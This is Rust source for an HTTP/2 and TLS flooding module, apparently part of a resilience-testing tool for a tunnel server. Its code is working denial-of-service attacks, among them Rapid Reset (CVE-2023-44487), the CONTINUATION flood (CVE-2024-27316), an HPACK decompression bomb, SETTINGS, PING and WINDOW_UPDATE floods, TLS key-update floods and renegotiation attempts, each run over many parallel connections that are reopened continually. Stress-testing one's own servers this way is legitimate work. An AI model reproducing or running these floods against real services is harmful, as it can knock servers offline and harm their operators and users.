//! Frames that cost the sender little: tunnels are opened, flooded until the far side ends them,
//! and opened again.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use clap::ValueEnum;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use super::frames::{
    END_HEADERS, WINDOW_DEFAULT, cancel, connect, connect_block, frame, get, kind, settings,
    window_update,
};
use super::stranger::hello;
use super::tunnel::{Tunnel, Way};
use super::{End, PATIENCE, Report};

/// Frames in one tunnel: more than any allowance, few enough to be read at once.
const FRAMES: u32 = 4096;
/// Bytes that go into one write.
const WRITE_BYTES: usize = 16 * 1024;
/// Streams that are reset together, a moment after they were asked for.
const LATE: usize = 200;
/// That moment.
const LATER: Duration = Duration::from_millis(2);
/// A lane that gets no tunnel waits so long.
const PAUSE: Duration = Duration::from_millis(50);

/// What the flood is made of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// A header block that never ends (CVE-2024-27316).
    Continuation,
    /// SETTINGS, each of which must be acknowledged.
    Settings,
    /// PING, each of which must be answered.
    Ping,
    /// DATA without data.
    EmptyData,
    /// WINDOW_UPDATE by one byte.
    WindowUpdate,
    /// Streams that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Streams that are reset a moment later, when the far side works at them.
    LateReset,
    /// A small header block that unpacks to a large list.
    HpackBomb,
    /// Requests that no tunnel serves.
    Requests,
    /// PRIORITY and frames of unknown types.
    Idle,
    /// TLS key updates, each of which asks for one of the other side.
    KeyUpdate,
    /// A second ClientHello, behind the handshake: TLS 1.2 would call it a renegotiation.
    Renegotiation,
}

/// A flood.
#[derive(Clone, Debug)]
pub struct Flood {
    /// Where to, and as whom.
    pub way: Way,
    /// What of.
    pub kind: Kind,
    /// A server in the pod, for streams that are real.
    pub echo: SocketAddr,
    /// Tunnels at a time.
    pub lanes: usize,
    /// No tunnel is opened after this.
    pub time: Duration,
}

/// Floods, and waits for the end of each tunnel.
pub async fn run(flood: &Flood) -> Report {
    let start = Instant::now();
    let mut lanes = JoinSet::new();
    for _ in 0..flood.lanes {
        let flood = flood.clone();
        lanes.spawn(async move { lane(&flood, start).await });
    }
    let mut report = Report::default();
    for lane in lanes.join_all().await {
        report.add(lane);
    }
    report.took(start)
}

async fn lane(flood: &Flood, start: Instant) -> Report {
    let mut report = Report::default();
    let bytes = bytes(flood);
    while start.elapsed() < flood.time {
        report.connections += 1;
        match Tunnel::open(&flood.way, &[]).await {
            Ok(tunnel) => {
                report.tunnels += 1;
                let (sent, end) = one(tunnel, flood.kind, &bytes).await;
                report.sent += sent;
                report.ended(&end);
            }
            Err(end) => {
                report.answered(format!("no tunnel: {end}"));
                tokio::time::sleep(PAUSE).await;
            }
        }
    }
    report
}

/// How many units were sent before the far side took no more, and how it ended.
async fn one(mut tunnel: Tunnel, kind: Kind, bytes: &[u8]) -> (u64, End) {
    let sent = match kind {
        Kind::KeyUpdate => key_updates(&mut tunnel).await,
        Kind::Renegotiation => u64::from(say_hello_again(&mut tunnel).await.is_ok()),
        Kind::LateReset => late_resets(&mut tunnel, bytes).await,
        _ => frames(&mut tunnel, bytes).await,
    };
    (sent, tunnel.end(PATIENCE).await)
}

async fn frames(tunnel: &mut Tunnel, bytes: &[u8]) -> u64 {
    let mut gone = 0;
    for piece in bytes.chunks(WRITE_BYTES) {
        // What the far side said before it went is read afterwards.
        if tunnel.send(piece).await.is_err() {
            break;
        }
        gone += piece.len();
    }
    let per_frame = bytes.len() / FRAMES as usize;
    (gone / per_frame.max(1)) as u64
}

/// All that a server takes at once, and a moment later their resets.
async fn late_resets(tunnel: &mut Tunnel, requests: &[u8]) -> u64 {
    let block = requests.len() / FRAMES as usize;
    let mut number = 0;
    for requests in requests.chunks(block * LATE) {
        let sent = tunnel.send(requests).await.is_ok();
        tokio::time::sleep(LATER).await;
        let count = (requests.len() / block) as u32;
        let resets: Vec<u8> = (number..number + count)
            .flat_map(|n| cancel(2 * n + 1))
            .collect();
        if !sent || tunnel.send(&resets).await.is_err() {
            break;
        }
        number += count;
    }
    number.into()
}

async fn key_updates(tunnel: &mut Tunnel) -> u64 {
    for count in 0..u64::from(FRAMES) {
        let (_, tls) = tunnel.tls.get_mut();
        if tls.refresh_traffic_keys().is_err() || tunnel.tls.flush().await.is_err() {
            return count;
        }
    }
    u64::from(FRAMES)
}

async fn say_hello_again(tunnel: &mut Tunnel) -> std::io::Result<()> {
    let (pipe, _) = tunnel.tls.get_mut();
    pipe.write_all(&hello()).await
}

/// The bytes of the n-th unit.
type Each = Box<dyn Fn(u32) -> Vec<u8>>;

/// What one tunnel gets: [`FRAMES`] of the kind, and what they need before them.
fn bytes(flood: &Flood) -> Vec<u8> {
    let authority = flood.echo.to_string();
    let block = connect_block(&authority);
    let (first, each): (Vec<u8>, Each) = match flood.kind {
        Kind::Continuation => (
            frame(kind::HEADERS, 0, 1, &block),
            Box::new(|_| frame(kind::CONTINUATION, 0, 1, &[])),
        ),
        Kind::Settings => (Vec::new(), Box::new(|_| settings(&[(4, WINDOW_DEFAULT)]))),
        Kind::Ping => (Vec::new(), Box::new(|_| frame(kind::PING, 0, 0, &[7; 8]))),
        Kind::EmptyData => (
            connect(1, &authority),
            Box::new(|_| frame(kind::DATA, 0, 1, &[])),
        ),
        Kind::WindowUpdate => (connect(1, &authority), Box::new(|_| window_update(1, 1))),
        Kind::RapidReset => (
            Vec::new(),
            Box::new(move |n| [connect(2 * n + 1, &authority), cancel(2 * n + 1)].concat()),
        ),
        Kind::LateReset => (
            Vec::new(),
            Box::new(move |n| connect(2 * n + 1, &authority)),
        ),
        Kind::HpackBomb => (
            Vec::new(),
            Box::new(|n| frame(kind::HEADERS, END_HEADERS, 2 * n + 1, &bomb())),
        ),
        Kind::Requests => (Vec::new(), Box::new(|n| get(2 * n + 1))),
        Kind::Idle => (
            connect(1, &authority),
            Box::new(|n| match n % 2 {
                0 => frame(kind::PRIORITY, 0, 1, &[0; 5]),
                _ => frame(0x77, 0, 0, &[1; 5]),
            }),
        ),
        Kind::KeyUpdate | Kind::Renegotiation => return Vec::new(),
    };
    // A bomb is large, and the first is enough.
    let count = if flood.kind == Kind::HpackBomb {
        8
    } else {
        FRAMES
    };
    let rest = (0..count).flat_map(each);
    first.into_iter().chain(rest).collect()
}

/// One field of almost the whole table, a thousand times: 4 KiB that unpack to 4 MiB (RFC 7541,
/// 6.2.1 and 6.1). Our table is not forbidden before the far side's SETTINGS were acknowledged.
fn bomb() -> Vec<u8> {
    const VALUE_BYTES: usize = 4000;
    // A new name of one byte, and a length of 4000 in three bytes.
    let mut block = vec![0x40, 1, b'x', 0x7f, 0xa1, 0x1e];
    block.extend_from_slice(&[b'y'; VALUE_BYTES]);
    block.extend(std::iter::repeat_n(0xbe, 1000));
    block
}
